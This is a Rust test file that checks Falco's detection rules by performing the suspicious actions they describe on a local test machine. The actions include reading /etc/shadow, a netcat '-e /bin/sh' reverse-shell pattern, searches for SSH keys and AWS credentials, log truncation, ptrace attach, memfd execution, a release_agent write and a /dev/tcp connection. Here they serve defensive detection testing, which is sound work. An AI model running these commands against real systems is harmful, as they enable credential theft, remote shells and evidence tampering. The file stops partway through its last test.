//! Falco's own stable rules against real actions on this machine: each test
//! loads Falco's rules file with every rule but one disabled, does what the
//! rule is about (as root, in a fresh cgroup named like a containerd
//! container when the rule needs one, in one named like a host service
//! otherwise) and a benign variant of it, and checks that the rule fired
//! exactly once, for the action, with the values it describes in its output.
//!
//! They need root, kernel BTF and cgroup v2, like every kernel test; under
//! `CI=true` a missing prerequisite fails them.
#![expect(
    clippy::print_stderr,
    reason = "the tests show each rule's rendered output"
)]

mod support;

use std::{
    ffi::CString,
    net::TcpListener,
    os::unix::process::CommandExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::MutexGuard,
};

use serde_json::Value;
use support::{
    Agent, Layout, MemfdExec, Overlay, TempDir, TestCgroup, cstring, in_cgroup, kernel_test,
    open_pty, unique_hex,
};

/// Falco's stable rules, as the Falco project publishes them.
const FALCO_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/compat/falco-rules/falco_rules.yaml"
);

/// The name of every rule in Falco's rules file.
fn rule_names() -> Vec<String> {
    let text = std::fs::read_to_string(FALCO_RULES)
        .unwrap_or_else(|e| panic!("read Falco's rules at {FALCO_RULES}: {e}"));
    let items: Vec<serde_yaml::Value> =
        serde_yaml::from_str(&text).expect("Falco's rules file is a YAML list");
    items
        .iter()
        .filter_map(|item| item.get("rule")?.as_str().map(str::to_owned))
        .collect()
}

/// The name the kernel gives a child forked from this thread (its `comm`).
fn thread_comm() -> String {
    std::fs::read_to_string("/proc/thread-self/comm")
        .expect("read this thread's comm")
        .trim_end()
        .to_owned()
}

/// One agent run with one of Falco's rules: a container cgroup and a host
/// cgroup in scope, a scratch directory, and the processes the test ran.
struct Live {
    rule: &'static str,
    container: TestCgroup,
    host: TestCgroup,
    dir: TempDir,
    agent: Agent,
    pids: Vec<u32>,
    _kernel: MutexGuard<'static, ()>,
}

/// Where an action runs.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    Container,
    Host,
}

impl Live {
    /// Starts the agent with only `rule` of Falco's rules file enabled.
    fn start(rule: &'static str) -> Option<Self> {
        Self::start_with(rule, "")
    }

    /// As [`Self::start`], with `extra` appended to the agent's config.
    fn start_with(rule: &'static str, extra: &str) -> Option<Self> {
        let kernel = kernel_test()?;
        let names = rule_names();
        assert!(
            names.iter().any(|name| name == rule),
            "Falco's rules file has no rule {rule:?}: {names:?}"
        );
        let others: Vec<&String> = names.iter().filter(|name| *name != rule).collect();
        let container = TestCgroup::with_layout(Layout::Containerd);
        let host = TestCgroup::with_layout(Layout::Host);
        let json = |text: &str| serde_json::to_string(text).expect("a string as JSON");
        let config = format!(
            "apiVersion: guardrails.dev/v1alpha1\n\
             scope:\n  cgroups: [{}, {}]\n\
             transport:\n  wakeup_bytes: 0\n  drain_interval_ms: 20\n\
             metrics:\n  address: 127.0.0.1:0\n\
             rules:\n  defaults: false\n  files: [{}]\n  disable_rules: {}\n  reload_interval_ms: 0\n\
             {extra}",
            json(&container.path.display().to_string()),
            json(&host.path.display().to_string()),
            json(FALCO_RULES),
            serde_json::to_string(&others).expect("names as JSON"),
        );
        let agent = Agent::start(&config);
        Some(Self {
            rule,
            container,
            host,
            dir: TempDir::new("falco"),
            agent,
            pids: Vec::new(),
            _kernel: kernel,
        })
    }

    fn cgroup(&self, place: Place) -> &TestCgroup {
        match place {
            Place::Container => &self.container,
            Place::Host => &self.host,
        }
    }

    /// A command whose process joins the cgroup of `place`.
    fn command(&self, place: Place, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let mut command = self.cgroup(place).command(program);
        command.stdin(Stdio::null()).stdout(Stdio::null());
        command
    }

    /// Runs `command` to its successful end; returns its pid.
    fn run(&mut self, mut command: Command) -> u32 {
        let mut child = command
            .spawn()
            .unwrap_or_else(|e| panic!("run {command:?}: {e}"));
        let pid = child.id();
        let status = child.wait().expect("wait");
        assert!(status.success(), "{command:?}: {status}");
        self.pids.push(pid);
        pid
    }

    /// Forks a child into the cgroup of `place` that runs `body` (system
    /// calls only: see [`TestCgroup::run_in`]); returns its pid.
    fn run_in(&mut self, place: Place, body: impl FnOnce() -> i32) -> u32 {
        let pid = self.cgroup(place).run_in(body);
        self.pids.push(pid);
        pid
    }

    /// A copy of `program` named `name` in the scratch directory.
    fn copy_as(&self, program: &str, name: &str) -> PathBuf {
        let path = self.dir.path.join(name);
        std::fs::copy(program, &path).unwrap_or_else(|e| panic!("copy {program}: {e}"));
        path
    }

    /// Waits until the exit of every process the test ran has been seen,
    /// stops the agent and returns every event.
    fn finish(self) -> Finished {
        let Self {
            rule,
            container,
            host,
            dir,
            agent,
            pids,
            _kernel,
        } = self;
        agent.wait_for_events("the exit of every process the test ran", |events| {
            pids.iter().all(|pid| {
                events
                    .iter()
                    .any(|e| e["kind"] == "process_exit" && e["process"]["pid"] == *pid)
            })
        });
        let (events, status) = agent.stop();
        assert!(status.success(), "the agent exited with {status}");
        let events: Vec<Value> = in_cgroup(&events, &container)
            .chain(in_cgroup(&events, &host))
            .cloned()
            .collect();
        Finished {
            rule,
            events,
            _dir: dir,
        }
    }
}

/// What one run printed about the test's cgroups.
struct Finished {
    rule: &'static str,
    events: Vec<Value>,
    _dir: TempDir,
}

impl Finished {
    fn violations(&self) -> Vec<&Value> {
        self.events
            .iter()
            .filter(|e| e["kind"] == "violation")
            .collect()
    }

    /// The events of the processes `who` picks, for diagnostics.
    fn about(&self, who: &dyn Fn(&Value) -> bool) -> Vec<&Value> {
        self.events
            .iter()
            .filter(|e| e["kind"] != "violation" && who(&e["process"]))
            .collect()
    }

    /// Asserts that the rule fired exactly once in the run, for a process
    /// `who` picks, with each of `output` in its rendered output; returns
    /// the violation.
    fn fired_once(&self, who: impl Fn(&Value) -> bool, output: &[&str]) -> &Value {
        let violations = self.violations();
        assert!(
            violations.len() == 1,
            "{:?} fired {} times, not once: {violations:#?}\nthe actor's events: {:#?}",
            self.rule,
            violations.len(),
            self.about(&who)
        );
        let violation = violations[0];
        assert_eq!(violation["violation"]["rule"], self.rule, "{violation}");
        assert!(
            who(&violation["process"]),
            "{:?} fired for another process: {violation:#}",
            self.rule
        );
        let rendered = violation["violation"]["output"]
            .as_str()
            .expect("an output");
        eprintln!("{}: {rendered}", self.rule);
        for part in output {
            assert!(
                rendered.contains(part),
                "the output of {:?} lacks {part:?}: {rendered}",
                self.rule
            );
        }
        violation
    }

    /// Asserts that the benign action of a process `who` picks was seen (an
    /// event of Falco type `event_type`: `execve` for an exec), so that the
    /// rule's silence about it means something.
    fn saw(&self, who: impl Fn(&Value) -> bool, event_type: &str) {
        let seen = self.events.iter().any(|e| {
            who(&e["process"])
                && match event_type {
                    "execve" => e["kind"] == "process_exec",
                    name => e["kind"] == "syscall" && e["syscall"]["name"] == name,
                }
        });
        assert!(
            seen,
            "no {event_type} event of the benign action: {:#?}",
            self.about(&who)
        );
    }
}

fn pid_is(pid: u32) -> impl Fn(&Value) -> bool {
    move |p| p["pid"] == pid
}

fn parent_is(pid: u32) -> impl Fn(&Value) -> bool {
    move |p| p["ppid"] == pid
}

/// A file created for the test and removed afterwards.
struct Scratch(PathBuf);

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn read_sensitive_file_untrusted_fires_for_cat_of_etc_shadow_and_not_of_etc_passwd() {
    let Some(mut live) = Live::start("Read sensitive file untrusted") else {
        return;
    };
    let mut cat = live.command(Place::Host, "/bin/cat");
    cat.arg("/etc/shadow");
    let fired = live.run(cat);
    let mut cat = live.command(Place::Host, "/bin/cat");
    cat.arg("/etc/passwd");
    let benign = live.run(cat);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Sensitive file opened for reading by non-trusted program",
            "file=/etc/shadow ",
            "process=cat ",
            "command=cat /etc/shadow ",
            "user=root ",
            "user_uid=0 ",
        ],
    );
    done.saw(pid_is(benign), "openat");
}

#[test]
fn directory_traversal_fires_for_a_dotted_path_into_etc_and_not_below_a_shell_or_outside_etc() {
    let Some(mut live) = Live::start("Directory traversal monitored file read") else {
        return;
    };
    let mut cat = live.command(Place::Host, "/bin/cat");
    cat.arg("/tmp/../../etc/shadow");
    let fired = live.run(cat);
    // The same path from a shell: the rule trusts shells' children.
    let mut shell = live.command(Place::Host, "/bin/sh");
    shell.args(["-c", "/bin/cat /tmp/../../etc/shadow; true"]);
    let from_shell = live.run(shell);
    let mut cat = live.command(Place::Host, "/bin/cat");
    cat.arg("/tmp/../../usr/lib/os-release");
    let outside_etc = live.run(cat);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Read monitored file via directory traversal",
            "file=/etc/shadow ",
            "fileraw=/tmp/../../etc/shadow ",
            "process=cat ",
            "evt_type=openat ",
        ],
    );
    done.saw(parent_is(from_shell), "openat");
    done.saw(pid_is(outside_etc), "openat");
}

#[test]
fn run_shell_untrusted_fires_for_a_shell_below_a_web_server_and_not_below_another_program() {
    let Some(mut live) = Live::start("Run shell untrusted") else {
        return;
    };
    let server = live.copy_as("/bin/dash", "nginx");
    let other = live.copy_as("/bin/dash", "gr-worker");
    // The trailing `true` keeps the copy from exec'ing the shell in place.
    let mut command = live.command(Place::Host, &server);
    command.args(["-c", "sh -c true; true"]);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, &other);
    command.args(["-c", "sh -c true; true"]);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        parent_is(fired),
        &[
            "Shell spawned by untrusted binary",
            "process=sh ",
            "parent=nginx ",
            "command=sh -c true ",
            &format!("parent_exepath={} ", server.display()),
        ],
    );
    done.saw(parent_is(benign), "execve");
}

/// Makes the process the leader of a new session, and with `terminal` gives
/// it that controlling terminal.
fn new_session(command: &mut Command, terminal: Option<CString>) {
    // SAFETY: setsid, open and ioctl are async-signal-safe; the path was made
    // before the fork.
    unsafe {
        command.pre_exec(move || {
            if libc::setsid() < 0 {
                return Err(std::io::Error::last_os_error());
            }
            if let Some(terminal) = &terminal {
                let fd = libc::open(terminal.as_ptr(), libc::O_RDWR);
                if fd < 0 || libc::ioctl(fd, libc::TIOCSCTTY, 0) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
}

#[test]
fn terminal_shell_in_container_fires_for_a_shell_on_a_terminal_and_not_for_one_without() {
    let Some(mut live) = Live::start("Terminal shell in container") else {
        return;
    };
    // The container's entrypoint is started by the runtime, here a copy of
    // dash named like it.
    let runtime = live.copy_as("/bin/dash", "runc");
    let (master, terminal) = open_pty();
    let mut command = live.command(Place::Container, &runtime);
    command.args(["-c", "sh -c true; true"]);
    new_session(&mut command, Some(terminal));
    let fired = live.run(command);
    let mut command = live.command(Place::Container, &runtime);
    command.args(["-c", "sh -c true; true"]);
    new_session(&mut command, None);
    let benign = live.run(command);
    // SAFETY: master is ours.
    unsafe { libc::close(master) };
    let done = live.finish();
    let violation = done.fired_once(
        parent_is(fired),
        &[
            "A shell was spawned in a container with an attached terminal",
            "process=sh ",
            "parent=runc ",
            "command=sh -c true ",
        ],
    );
    let tty = violation["process"]["tty"].as_u64().expect("a tty");
    assert_ne!(tty, 0);
    let output = violation["violation"]["output"].as_str().expect("output");
    assert!(output.contains(&format!("terminal={tty} ")), "{output}");
    done.saw(parent_is(benign), "execve");
}

#[test]
fn netcat_remote_code_execution_fires_for_nc_dash_e_in_a_container_and_not_on_the_host() {
    let Some(mut live) = Live::start("Netcat Remote Code Execution in Container") else {
        return;
    };
    let nc = live.copy_as("/bin/true", "nc");
    let args = ["-e", "/bin/sh", "127.0.0.1", "4444"];
    let mut command = live.command(Place::Container, &nc);
    command.args(args);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, &nc);
    command.args(args);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Netcat runs inside container that allows remote code execution",
            "process=nc ",
            "command=nc -e /bin/sh 127.0.0.1 4444 ",
            &format!("proc_exepath={} ", nc.display()),
        ],
    );
    done.saw(pid_is(benign), "execve");
}

#[test]
fn search_private_keys_fires_for_find_id_rsa_and_not_for_another_name() {
    let Some(mut live) = Live::start("Search Private Keys or Passwords") else {
        return;
    };
    let dir = live.dir.path.clone();
    let mut command = live.command(Place::Host, "/usr/bin/find");
    command.arg(&dir).args(["-name", "id_rsa"]);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, "/usr/bin/find");
    command.arg(&dir).args(["-name", "notes.txt"]);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Grep private keys or passwords activities found",
            "process=find ",
            &format!("command=find {} -name id_rsa ", dir.display()),
        ],
    );
    done.saw(pid_is(benign), "execve");
}

#[test]
fn find_aws_credentials_fires_for_find_of_aws_credentials_and_not_of_aws_config() {
    let Some(mut live) = Live::start("Find AWS Credentials") else {
        return;
    };
    let dir = live.dir.path.clone();
    let mut command = live.command(Place::Host, "/usr/bin/find");
    command.arg(&dir).args(["-path", "*/.aws/credentials"]);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, "/usr/bin/find");
    command.arg(&dir).args(["-path", "*/.aws/config"]);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Detected AWS credentials search activity",
            "process=find ",
            &format!("command=find {} -path */.aws/credentials ", dir.display()),
            "user=root ",
        ],
    );
    done.saw(pid_is(benign), "execve");
}

#[test]
fn clear_log_activities_fires_for_truncating_a_file_in_var_log_and_not_for_appending() {
    let Some(mut live) = Live::start("Clear Log Activities") else {
        return;
    };
    let log = Scratch(PathBuf::from(format!(
        "/var/log/guardrails-test-{}.log",
        unique_hex(12)
    )));
    std::fs::write(&log.0, "evidence\n").expect("write a log file");
    let path = cstring(&log.0);
    let fired = live.run_in(Place::Host, || {
        // SAFETY: open and close on a C string made before the fork.
        unsafe {
            let fd = libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_TRUNC);
            i32::from(fd < 0 || libc::close(fd) != 0)
        }
    });
    let benign = live.run_in(Place::Host, || {
        // SAFETY: as above.
        unsafe {
            let fd = libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_APPEND);
            i32::from(fd < 0 || libc::close(fd) != 0)
        }
    });
    let comm = thread_comm();
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Log files were tampered",
            &format!("file={} ", log.0.display()),
            &format!("process={comm} "),
            "evt_type=openat ",
        ],
    );
    done.saw(pid_is(benign), "openat");
}

#[test]
fn remove_bulk_data_fires_for_shred_and_not_for_rm() {
    let Some(mut live) = Live::start("Remove Bulk Data from Disk") else {
        return;
    };
    let secret = live.dir.path.join("secret");
    let other = live.dir.path.join("other");
    std::fs::write(&secret, "data").expect("write");
    std::fs::write(&other, "data").expect("write");
    let mut command = live.command(Place::Host, "/usr/bin/shred");
    command.arg("-u").arg(&secret);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, "/bin/rm");
    command.arg("-f").arg(&other);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Bulk data has been removed from disk",
            "process=shred ",
            &format!("command=shred -u {} ", secret.display()),
        ],
    );
    done.saw(pid_is(benign), "execve");
}

#[test]
fn create_symlink_over_sensitive_files_fires_for_etc_shadow_and_not_for_etc_passwd() {
    let Some(mut live) = Live::start("Create Symlink Over Sensitive Files") else {
        return;
    };
    let link = live.dir.path.join("shadow-link");
    let other = live.dir.path.join("passwd-link");
    let mut command = live.command(Place::Host, "/bin/ln");
    command.args(["-s", "/etc/shadow"]).arg(&link);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, "/bin/ln");
    command.args(["-s", "/etc/passwd"]).arg(&other);
    let benign = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Symlinks created over sensitive files",
            "target=/etc/shadow ",
            &format!("linkpath={} ", link.display()),
            "process=ln ",
        ],
    );
    done.saw(pid_is(benign), "symlinkat");
}

/// A fresh directory on the file system of `/etc/shadow` (a hard link
/// cannot cross file systems), removed when dropped.
fn dir_beside_etc() -> TempDir {
    use std::os::unix::fs::MetadataExt;
    let device = std::fs::metadata("/etc/shadow").expect("stat").dev();
    let candidates = [
        std::env::temp_dir(),
        PathBuf::from("/var/tmp"),
        PathBuf::from("/root"),
    ];
    let parent = candidates
        .iter()
        .find(|dir| std::fs::metadata(dir).is_ok_and(|m| m.dev() == device))
        .unwrap_or_else(|| panic!("none of {candidates:?} is on the file system of /etc"));
    let path = parent.join(format!("guardrails-test-link-{}", unique_hex(12)));
    std::fs::create_dir(&path).expect("create a directory beside /etc");
    TempDir { path }
}

#[test]
fn create_hardlink_over_sensitive_files_fires_for_etc_shadow_and_not_for_an_own_file() {
    let Some(mut live) = Live::start("Create Hardlink Over Sensitive Files") else {
        return;
    };
    let dir = dir_beside_etc();
    let link = dir.path.join("shadow-hard");
    let own = dir.path.join("own");
    std::fs::write(&own, "mine").expect("write");
    let mut command = live.command(Place::Host, "/bin/ln");
    command.arg("/etc/shadow").arg(&link);
    let fired = live.run(command);
    let mut command = live.command(Place::Host, "/bin/ln");
    command.arg(&own).arg(dir.path.join("own-hard"));
    let benign = live.run(command);
    let done = live.finish();
    drop(dir);
    done.fired_once(
        pid_is(fired),
        &[
            "Hardlinks created over sensitive files",
            "target=/etc/shadow ",
            &format!("linkpath={} ", link.display()),
            "process=ln ",
        ],
    );
    done.saw(pid_is(benign), "linkat");
}

#[test]
fn packet_socket_in_container_fires_in_a_container_and_not_on_the_host_or_for_inet() {
    let Some(mut live) = Live::start("Packet socket created in container") else {
        return;
    };
    let packet = || {
        // SAFETY: socket and close.
        unsafe {
            let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
            i32::from(fd < 0 || libc::close(fd) != 0)
        }
    };
    let fired = live.run_in(Place::Container, packet);
    let on_host = live.run_in(Place::Host, packet);
    let inet = live.run_in(Place::Container, || {
        // SAFETY: socket and close.
        unsafe {
            let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
            i32::from(fd < 0 || libc::close(fd) != 0)
        }
    });
    let comm = thread_comm();
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Packet socket was created in a container",
            "domain=AF_PACKET",
            "evt_type=socket ",
            &format!("process={comm} "),
        ],
    );
    done.saw(pid_is(on_host), "socket");
    done.saw(pid_is(inet), "socket");
}

fn sockaddr_in(address: [u8; 4], port: u16) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(address),
        },
        sin_zero: [0; 8],
    }
}

const SOCKADDR_IN_LEN: libc::socklen_t = size_of::<libc::sockaddr_in>() as libc::socklen_t;

#[test]
fn redirect_stdout_to_network_fires_for_a_socket_dup2d_onto_stdout_and_not_onto_fd_5() {
    let Some(mut live) = Live::start("Redirect STDOUT/STDIN to Network Connection in Container")
    else {
        return;
    };
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let addr = sockaddr_in([127, 0, 0, 1], port);
    let connect_and_dup = |target: i32| {
        move || {
            // SAFETY: socket calls on a sockaddr made before the fork.
            unsafe {
                let client = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
                if client < 0
                    || libc::connect(client, (&raw const addr).cast(), SOCKADDR_IN_LEN) != 0
                {
                    return 1;
                }
                i32::from(libc::dup2(client, target) != target)
            }
        }
    };
    let fired = live.run_in(Place::Container, connect_and_dup(1));
    let benign = live.run_in(Place::Container, connect_and_dup(5));
    let on_host = live.run_in(Place::Host, connect_and_dup(1));
    let done = live.finish();
    drop(listener);
    done.fired_once(
        pid_is(fired),
        &[
            "Redirect stdout/stdin to network connection",
            "evt_type=dup2 ",
            "fd_type=ipv4 ",
            "fd_proto=tcp ",
            &format!("rport={port} "),
            &format!("->127.0.0.1:{port} "),
        ],
    );
    done.saw(pid_is(benign), "dup2");
    done.saw(pid_is(on_host), "dup2");
}

#[test]
fn release_agent_escape_fires_for_writing_a_release_agent_file_and_not_for_reading_it() {
    let Some(mut live) = Live::start("Detect release_agent File Container Escapes") else {
        return;
    };
    // Our own file of that name, never a real cgroup's.
    let file = live.dir.path.join("release_agent");
    let path = cstring(&file);
    let fired = live.run_in(Place::Container, || {
        // SAFETY: open and close on a C string made before the fork.
        unsafe {
            let fd = libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CREAT, 0o600);
            i32::from(fd < 0 || libc::close(fd) != 0)
        }
    });
    let benign = live.run_in(Place::Container, || {
        // SAFETY: as above.
        unsafe {
            let fd = libc::open(path.as_ptr(), libc::O_RDONLY);
            i32::from(fd < 0 || libc::close(fd) != 0)
        }
    });
    let done = live.finish();
    let violation = done.fired_once(
        pid_is(fired),
        &[
            "Detect an attempt to exploit a container escape using release_agent file",
            &format!("file={} ", file.display()),
            "CAP_SYS_ADMIN",
            "user_uid=0 ",
        ],
    );
    assert_eq!(
        violation["violation"]["priority"], "critical",
        "{violation}"
    );
    done.saw(pid_is(benign), "openat");
}

/// Forks a child that waits, attaches to it with ptrace, waits for it to
/// stop, detaches and kills it. Only system calls.
fn attach_detach() -> i32 {
    // SAFETY: fork, ptrace, waitpid, kill and _exit are async-signal-safe.
    unsafe {
        let sleeper = libc::fork();
        if sleeper == 0 {
            libc::pause();
            libc::_exit(0);
        }
        if sleeper < 0 {
            return 1;
        }
        let attached = libc::ptrace(libc::PTRACE_ATTACH, sleeper, 0, 0);
        if attached == 0 {
            libc::waitpid(sleeper, std::ptr::null_mut(), 0);
            libc::ptrace(libc::PTRACE_DETACH, sleeper, 0, 0);
        }
        libc::kill(sleeper, libc::SIGKILL);
        libc::waitpid(sleeper, std::ptr::null_mut(), 0);
        i32::from(attached != 0)
    }
}

/// Forks a child that asks to be traced by its parent and exits; waits for
/// it. Only system calls.
fn trace_me() -> i32 {
    // SAFETY: fork, ptrace, waitpid and _exit are async-signal-safe.
    unsafe {
        let child = libc::fork();
        if child == 0 {
            let traced = libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
            libc::_exit(i32::from(traced != 0));
        }
        let mut status = 0;
        libc::waitpid(child, &mut status, 0);
        i32::from(child < 0 || status != 0)
    }
}

#[test]
fn ptrace_attached_fires_for_ptrace_attach_and_not_for_detach_or_traceme() {
    let Some(mut live) = Live::start("PTRACE attached to process") else {
        return;
    };
    let fired = live.run_in(Place::Host, attach_detach);
    let benign = live.run_in(Place::Host, trace_me);
    let comm = thread_comm();
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Detected ptrace PTRACE_ATTACH attempt",
            "evt_type=ptrace ",
            &format!("process={comm} "),
        ],
    );
    done.saw(parent_is(benign), "ptrace");
}

#[test]
fn ptrace_anti_debug_fires_for_ptrace_traceme_and_not_for_attach() {
    let Some(mut live) = Live::start("PTRACE anti-debug attempt") else {
        return;
    };
    let fired = live.run_in(Place::Host, trace_me);
    let benign = live.run_in(Place::Host, attach_detach);
    let comm = thread_comm();
    let done = live.finish();
    done.fired_once(
        parent_is(fired),
        &[
            "Detected potential PTRACE_TRACEME anti-debug attempt",
            "evt_type=ptrace ",
            &format!("process={comm} "),
        ],
    );
    done.saw(pid_is(benign), "ptrace");
}

#[test]
fn execution_from_dev_shm_fires_for_a_binary_run_from_dev_shm_and_not_from_elsewhere() {
    let Some(mut live) = Live::start("Execution from /dev/shm") else {
        return;
    };
    let name = format!("gr-{}", unique_hex(8));
    let in_shm = Scratch(Path::new("/dev/shm").join(&name));
    std::fs::copy("/bin/true", &in_shm.0).expect("copy into /dev/shm");
    let elsewhere = live.copy_as("/bin/true", &name);
    let fired = live.run(live.command(Place::Host, &in_shm.0));
    let benign = live.run(live.command(Place::Host, &elsewhere));
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "File execution detected from /dev/shm",
            &format!("process={name} "),
            &format!("proc_exepath={} ", in_shm.0.display()),
            "evt_type=execve ",
        ],
    );
    done.saw(pid_is(benign), "execve");
}

/// An overlay mount like a container's root file system, unmounted when
/// dropped: `merged` shows `lower` (the image) under `upper` (what the
/// container wrote).

#[test]
fn drop_and_execute_fires_for_a_binary_written_into_the_container_and_not_for_one_from_the_image() {
    let Some(mut live) = Live::start("Drop and execute new binary in container") else {
        return;
    };
    let overlay = Overlay::mount(&live.dir.path);
    // Written through the merged view: it lands in the upper layer.
    let dropped = overlay.merged.join("dropped");
    std::fs::copy("/bin/true", &dropped).expect("write into the container");
    let fired = live.run(live.command(Place::Container, &dropped));
    let benign = live.run(live.command(Place::Container, overlay.merged.join("from-image")));
    let done = live.finish();
    drop(overlay);
    done.fired_once(
        pid_is(fired),
        &[
            "Executing binary not part of base image",
            &format!("proc_exe={} ", dropped.display()),
            "process=dropped ",
            "evt_type=execve ",
        ],
    );
    done.saw(pid_is(benign), "execve");
}

/// Moves the process into a network namespace of its own, where `lo` has
/// the documentation address 198.51.100.1 and something listens on ports
/// 4444 and 22 of it: a connection that looks outbound and leaves no host.
/// Only system calls: for `pre_exec`.
fn private_network() -> std::io::Result<()> {
    let fail = || Err(std::io::Error::last_os_error());
    // SAFETY: unshare, socket, ioctl, bind, listen and close are
    // async-signal-safe; the structures live on this stack.
    unsafe {
        if libc::unshare(libc::CLONE_NEWNET) != 0 {
            return fail();
        }
        let control = libc::socket(libc::AF_INET, libc::SOCK_DGRAM | libc::SOCK_CLOEXEC, 0);
        if control < 0 {
            return fail();
        }
        let mut request: libc::ifreq = std::mem::zeroed();
        for (to, from) in request.ifr_name.iter_mut().zip(b"lo") {
            *to = *from as libc::c_char;
        }
        let address = sockaddr_in([198, 51, 100, 1], 0);
        std::ptr::copy_nonoverlapping(
            (&raw const address).cast::<u8>(),
            (&raw mut request.ifr_ifru).cast::<u8>(),
            size_of::<libc::sockaddr_in>(),
        );
        if libc::ioctl(control, libc::SIOCSIFADDR, &raw const request) != 0
            || libc::ioctl(control, libc::SIOCGIFFLAGS, &raw mut request) != 0
        {
            return fail();
        }
        request.ifr_ifru.ifru_flags |= libc::IFF_UP as libc::c_short;
        if libc::ioctl(control, libc::SIOCSIFFLAGS, &raw const request) != 0 {
            return fail();
        }
        libc::close(control);
        for port in [4444, 22] {
            // Inherited across exec: the listeners live as long as the shell.
            let listener = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
            let address = sockaddr_in([198, 51, 100, 1], port);
            if listener < 0
                || libc::bind(listener, (&raw const address).cast(), SOCKADDR_IN_LEN) != 0
                || libc::listen(listener, 4) != 0
            {
                return fail();
            }
        }
    }
    Ok(())
}

#[test]
fn disallowed_ssh_connection_fires_for_ssh_to_port_4444_and_not_to_port_22() {
    let Some(mut live) = Live::start("Disallowed SSH Connection Non Standard Port") else {
        return;
    };
    // A program run as `ssh` (Falco's proc.exe is argv[0]) that connects to
    // 198.51.100.1:4444, then to port 22.
    let mut command = live.command(Place::Host, "/bin/bash");
    command.arg0("ssh").args([
        "-c",
        "exec 3<>/dev/tcp/198.51.100.1/4444; exec 4<>/dev/tcp/198.51.100.1/22",
    ]);
    // SAFETY: private_network only makes system calls.
    unsafe { command.pre_exec(private_network) };
    let pid = live.run(command);
    let done = live.finish();
    done.fired_once(
        pid_is(pid),
        &[
            "Disallowed SSH Connection",
            "->198.51.100.1:4444 ",
            "rport=4444 ",
            "fd_proto=tcp ",
            "evt_type=connect ",
            "process=bash ",
            "command=bash -c exec",
        ],
    );
    let to_22 = done.events.iter().any(|e| {
        e["process"]["pid"] == pid
            && e["syscall"]["name"] == "connect"
            && e["syscall"]["addresses"][0]["port"] == 22
    });
    assert!(to_22, "the connection to port 22 was seen");
}

#[test]
fn fileless_execution_fires_for_an_exec_of_a_memfd_and_not_of_a_file() {
    let Some(mut live) = Live::start("Fileless execution via memfd_create") else {
        return;
    };
    let memfd = MemfdExec::new("gr-fileless");
    let path = c"/bin/true";
    let argv = [c"fileless".as_ptr(), std::ptr::null()];
    let envp = [std::ptr::null::<libc::c_char>()];
    let from_memfd = live.run_in(Place::Host, || memfd.run());
    let from_file = live.run_in(Place::Host, || {
        // SAFETY: fork and execve on memory prepared before the fork.
        unsafe {
            let child = libc::fork();
            if child == 0 {
                libc::execve(path.as_ptr(), argv.as_ptr(), envp.as_ptr());
                libc::_exit(127);
            }
            let mut status = 0;
            libc::waitpid(child, &mut status, 0);
            i32::from(status != 0)
        }
    });
    let done = live.finish();
    done.fired_once(
        parent_is(from_memfd),
        &[
            "Fileless execution via memfd_create",
            "memfd:gr-fileless",
            "evt_type=execve ",
        ],
    );
    done.saw(parent_is(from_file), "execve");
}

#[test]
fn kernel_module_injection_fires_for_finit_module_in_a_container_and_not_on_the_host() {
    // On a kernel built without modules the module syscalls have no
    // tracepoint, so only the `sys_exit` hook sees these (failing) calls;
    // with modules, either hook does.
    let Some(mut live) = Live::start_with(
        "Linux Kernel Module Injection Detected",
        "sensors:\n  syscall_hook: sys_exit\n",
    ) else {
        return;
    };
    // Not a module: the kernel refuses it, after the call has been made.
    let not_a_module = c"/bin/true";
    let load = || {
        // SAFETY: open and finit_module on a static C string.
        unsafe {
            let fd = libc::open(not_a_module.as_ptr(), libc::O_RDONLY);
            let loaded = libc::syscall(libc::SYS_finit_module, fd, c"".as_ptr(), 0);
            i32::from(fd < 0 || loaded == 0)
        }
    };
    let fired = live.run_in(Place::Container, load);
    let benign = live.run_in(Place::Host, load);
    let done = live.finish();
    done.fired_once(
        pid_is(fired),
        &[
            "Linux Kernel Module injection from container",
            "evt_type=finit_module ",
            "res=E",
        ],
    );
    done.saw(pid_is(benign), "finit_module");
}

#[test]
fn system_user_interactive_fires_for_nobody_below_sshd_and_not_for_root() {
    let Some(mut live) = Live::start("System user interactive") else {
        return;
